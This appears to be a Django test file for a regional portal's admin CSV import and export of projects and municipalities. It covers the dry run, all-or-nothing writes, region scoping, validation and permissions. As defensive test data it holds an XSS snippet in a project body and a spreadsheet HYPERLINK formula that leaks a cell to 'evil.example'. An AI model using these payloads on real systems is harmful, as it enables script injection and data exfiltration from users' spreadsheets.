"""CSV import of projects and municipalities (dry run, then all rows or none) and CSV export of a list, scoped."""

import csv
import io
import os
import tempfile

import lxml.html
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from projects.models import Municipality, Project
from regionportal.publishing.models import PublicationState
from tests.factories import make_municipality, make_project, make_state, make_theme
from tests.pages import sent_values

from .conftest import force_login_verified

pytestmark = pytest.mark.django_db

PROJECT_HEADER = "slug,title,summary,body,lead_region,is_region_wide,municipalities,themes,status,start_date,end_date"
MUNICIPALITY_HEADER = "ags,name,slug,kind,ars,state,latitude,longitude,website,population"


def import_url(model):
    return reverse(f"admin:projects_{model}_import")


def page_form_posting_to(response, action):
    """The rendered form of the page that posts to ``action`` (``""``: to the page itself)."""
    forms = [form for form in lxml.html.fromstring(response.content.decode()).forms if form.get("action") == action]
    assert len(forms) == 1, f"the page has {len(forms)} forms posting to {action!r}"
    return forms[0]


def upload(client, model, content, name="daten.csv"):
    """The first step, as the rendered import page sends it with the chosen file: upload and dry run."""
    data = sent_values(page_form_posting_to(client.get(import_url(model)), ""))
    file = SimpleUploadedFile(name, content.encode() if isinstance(content, str) else content, content_type="text/csv")
    return client.post(import_url(model), data | {"import_file": file})


def confirm(client, model, response):
    """The second step: the preview's "Import bestätigen" form as rendered (the stored file's name, hidden)."""
    action = reverse(f"admin:projects_{model}_process_import")
    return client.post(action, sent_values(page_form_posting_to(response, action)))


def row_errors(response):
    result = response.context["result"]
    messages = [" ".join(row.error.messages) for row in result.invalid_rows]
    messages += [str(error.error) for row in result.rows for error in row.errors]
    messages += [str(error.error) for error in result.base_errors]
    return messages


@pytest.fixture
def places(db):
    make_state()
    return {
        "unna": make_municipality(name="Unna", slug="unna", ags="05978036"),
        "kamen": make_municipality(name="Kamen", slug="kamen", ags="05978016"),
        "theme": make_theme(name="Mobilität", slug="mobilitaet"),
    }


def project_csv(*rows):
    return "\n".join([PROJECT_HEADER, *rows]) + "\n"


GOOD_ROWS = (
    'radweg-unna-kamen,Radweg Unna–Kamen,Ein Radweg.,"<h2>Ziel</h2><script>alert(1)</script><p onclick=x>Los</p>",'
    "kreis-unna,0,05978036|05978016,mobilitaet,planned,2025-01-01,",
    "ladepunkte,Ladepunkte,Mehr Ladepunkte.,Einfacher Text,kreis-unna,1,,,running,2024-03-01,2026-12-31",
)


class TestProjectImport:
    def test_dry_run_previews_and_writes_nothing_then_confirm_writes_all(self, client, unna, places):
        client.force_login(unna.editor)
        before = Project.objects.count()

        preview = upload(client, "project", project_csv(*GOOD_ROWS))

        assert preview.status_code == 200
        assert row_errors(preview) == []
        assert "confirm_form" in preview.context
        assert Project.objects.count() == before  # the dry run is rolled back

        response = confirm(client, "project", preview)

        assert response.status_code == 302
        radweg = Project.objects.get(slug="radweg-unna-kamen")
        assert radweg.lead_region == unna.region
        assert radweg.state == PublicationState.DRAFT  # the workflow decides, not the file
        assert set(radweg.municipalities.values_list("ags", flat=True)) == {"05978036", "05978016"}
        assert list(radweg.themes.values_list("slug", flat=True)) == ["mobilitaet"]
        assert radweg.body == "<h2>Ziel</h2><p>Los</p>"  # sanitised like the admin form
        assert radweg.history.latest().history_user == unna.editor
        assert Project.objects.get(slug="ladepunkte").body == "<p>Einfacher Text</p>"

    def test_rows_for_another_region_are_refused(self, client, unna, mitte, places):
        client.force_login(unna.editor)

        response = upload(
            client, "project", project_csv(GOOD_ROWS[1], "fremd,Fremd,Text.,,region-der-mitte,0,,,planned,,")
        )

        assert any("nur Projekte Ihrer eigenen Regionen" in error for error in row_errors(response))
        assert "confirm_form" not in response.context
        assert not Project.objects.filter(slug__in=["fremd", "ladepunkte"]).exists()

    def test_another_regions_project_cannot_be_overwritten(self, client, unna, mitte, places):
        foreign = mitte.objects["projects.project"]
        client.force_login(unna.editor)

        response = upload(client, "project", project_csv(f"{foreign.slug},Übernommen,Text.,,kreis-unna,0,,,planned,,"))

        assert any("dürfen es aber nicht ändern" in error for error in row_errors(response))
        foreign.refresh_from_db()
        assert foreign.title != "Übernommen"

    @pytest.mark.parametrize(
        ("row", "message"),
        [
            ("neu,Neu,Text.,,gibt-es-nicht,0,,,planned,,", "Die Region „gibt-es-nicht“ gibt es nicht."),
            ("neu,Neu,Text.,,kreis-unna,0,05999999,,planned,,", "Gemeindeschlüssel (AGS) sind unbekannt: 05999999"),
            ("neu,Neu,Text.,,kreis-unna,0,,kein-thema,planned,,", "Themen sind unbekannt: kein-thema"),
            ("neu,Neu,Text.,,kreis-unna,0,,,erfunden,,", "erfunden"),
            ("neu,Neu,Text.,,kreis-unna,0,,,planned,gestern,", "Beginn"),
        ],
    )
    def test_bad_rows_are_refused_with_a_message(self, client, unna, places, row, message):
        client.force_login(unna.editor)

        response = upload(client, "project", project_csv(GOOD_ROWS[1], row))

        assert response.status_code == 200
        errors = row_errors(response)
        assert errors and "confirm_form" not in response.context
        if message != "Beginn":
            assert any(message in error for error in errors), errors
        assert not Project.objects.filter(slug__in=["neu", "ladepunkte"]).exists()

    def test_duplicate_slugs_in_the_file_are_refused(self, client, unna, places):
        client.force_login(unna.editor)

        response = upload(client, "project", project_csv(GOOD_ROWS[1], GOOD_ROWS[1]))

        assert any("„ladepunkte“ kommt in der Datei mehrfach vor" in error for error in row_errors(response))
        assert not Project.objects.filter(slug="ladepunkte").exists()

    def test_wrong_columns_are_refused(self, client, unna, places):
        client.force_login(unna.editor)

        response = upload(client, "project", "slug,titel,region\nneu,Neu,kreis-unna\n")

        errors = row_errors(response)
        assert any("unbekannte Spalten: region, titel" in error for error in errors), errors
        assert any("fehlende Spalten: lead_region, title" in error for error in errors), errors
        assert "confirm_form" not in response.context

    def test_non_utf8_bytes_get_a_clear_message(self, client, unna, places):
        client.force_login(unna.editor)

        response = upload(client, "project", project_csv(GOOD_ROWS[1]).replace("Mehr", "Größer").encode("latin-1"))

        assert response.status_code == 200
        assert "nicht UTF-8-kodiert" in str(response.context["form"].errors["import_file"])

    def test_write_is_all_or_nothing(self, client, unna, mitte, places):
        """A row that turns bad between the dry run and the confirmation stops the whole import."""
        client.force_login(unna.editor)
        preview = upload(client, "project", project_csv(*GOOD_ROWS))
        stored = os.path.join(tempfile.gettempdir(), preview.context["confirm_form"]["import_file_name"].value())
        with open(stored, "a", encoding="utf-8") as file:
            file.write("fremd,Fremd,Text.,,region-der-mitte,0,,,planned,,\n")

        response = confirm(client, "project", preview)

        assert response.status_code == 302
        assert response["Location"] == import_url("project")
        assert not Project.objects.filter(slug__in=["radweg-unna-kamen", "ladepunkte", "fremd"]).exists()
        message = str(list(client.get(response["Location"]).context["messages"])[0])
        assert "Nichts wurde importiert" in message and "Zeile 3" in message

    def test_contributor_may_not_import(self, client, contributor):
        client.force_login(contributor)

        assert client.get(import_url("project")).status_code == 403


def municipality_csv(*rows):
    return "\n".join([MUNICIPALITY_HEADER, *rows]) + "\n"


class TestMunicipalityImport:
    def test_portal_admin_imports_municipalities(self, client, portal_admin, places):
        force_login_verified(client, portal_admin)

        preview = upload(
            client, "municipality", municipality_csv("05978024,Fröndenberg,froendenberg,city,,05,51.47,7.76,,20701")
        )
        assert row_errors(preview) == []
        confirm(client, "municipality", preview)

        assert Municipality.objects.get(ags="05978024").name == "Fröndenberg"

    @pytest.mark.parametrize(
        ("row", "field"),
        [
            ("99978024,Irgendwo,irgendwo,city,,05,,,,", "ags"),
            ("0597802,Irgendwo,irgendwo,city,,05,,,,", "ags"),
            ("05978024,Irgendwo,unna,city,,05,,,,", "slug"),  # the slug belongs to another municipality
            ("05978024,Irgendwo,irgendwo,city,,17,,,,", "Länderschlüssel"),
        ],
    )
    def test_invalid_rows_are_refused(self, client, portal_admin, places, row, field):
        force_login_verified(client, portal_admin)

        response = upload(client, "municipality", municipality_csv(row))

        result = response.context["result"]
        assert result.has_validation_errors() or result.has_errors()
        details = [row.field_specific_errors for row in result.invalid_rows] + [row_errors(response)]
        assert field in str(details)
        assert not Municipality.objects.filter(name="Irgendwo").exists()

    def test_region_editors_may_not_import_reference_data(self, client, unna):
        client.force_login(unna.editor)

        assert client.get(import_url("municipality")).status_code == 403


def export(client, model, query=""):
    url = reverse(f"admin:projects_{model}_export") + query
    page = client.get(url)
    response = client.post(url, sent_values(page_form_posting_to(page, "")))  # to the page itself, query included
    assert response.status_code == 200, response.content[:500]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


class TestExport:
    def test_editor_exports_only_own_regions_projects(self, client, unna, mitte):
        client.force_login(unna.editor)

        rows = export(client, "project")

        slugs = {row["slug"] for row in rows}
        assert unna.objects["projects.project"].slug in slugs
        assert mitte.objects["projects.project"].slug not in slugs

    def test_export_follows_the_lists_filter(self, client, unna):
        draft = make_project(region=unna.region, state=PublicationState.DRAFT)
        client.force_login(unna.editor)

        rows = export(client, "project", "?state__exact=draft")

        assert [row["slug"] for row in rows] == [draft.slug]
        assert rows[0]["state"] == "draft"

    def test_formula_cells_are_exported_as_text(self, client, unna):
        make_project(
            region=unna.region,
            title='=HYPERLINK("https://evil.example/?"&A1;"Klick")',
            summary="+49 2303 27-0",
            slug="formel",
        )
        client.force_login(unna.editor)

        row = next(row for row in export(client, "project") if row["slug"] == "formel")

        assert row["title"] == '\'=HYPERLINK("https://evil.example/?"&A1;"Klick")'
        assert row["summary"] == "'+49 2303 27-0"

    def test_contributor_may_not_export(self, client, contributor):
        client.force_login(contributor)

        assert client.get(reverse("admin:projects_project_export")).status_code == 403
